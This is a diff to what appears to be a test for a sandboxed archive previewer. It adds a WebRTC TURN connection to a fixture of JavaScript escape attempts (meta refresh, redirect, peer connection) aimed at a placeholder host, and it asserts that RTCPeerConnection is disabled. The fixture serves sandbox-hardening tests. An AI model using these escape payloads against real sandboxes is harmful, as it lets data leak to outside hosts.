@@ -285,6 +285,10 @@ LEADING_AWAY = """
     link.click();
     document.head.insertAdjacentHTML("beforeend", "<meta http-equiv=refresh content='0;url=http://{at}/meta'>");
     location.href = "http://{at}/location";
+    var server = { urls: "turn:{at}?transport=tcp", username: "leaked", credential: "x" };
+    var connection = new RTCPeerConnection({ iceServers: [server] });
+    connection.createDataChannel("x");
+    connection.createOffer().then(function (offer) { return connection.setLocalDescription(offer); });
 """
 ADD = """
 function add(tag, key, other, value) {
@@ -317,6 +321,7 @@ def test_an_archive_that_is_previewed_reaches_no_other_host_or_port(
             assert page.url == f"{url.rstrip('/')}/"
             assert len(page.context.pages) == 1
             assert page.evaluate("ggbApplet.getValue('ready')") == 1
+            assert page.evaluate("typeof RTCPeerConnection + typeof webkitRTCPeerConnection") == "undefined" * 2
         page.close()
         assert sent_to(listener) == []
 
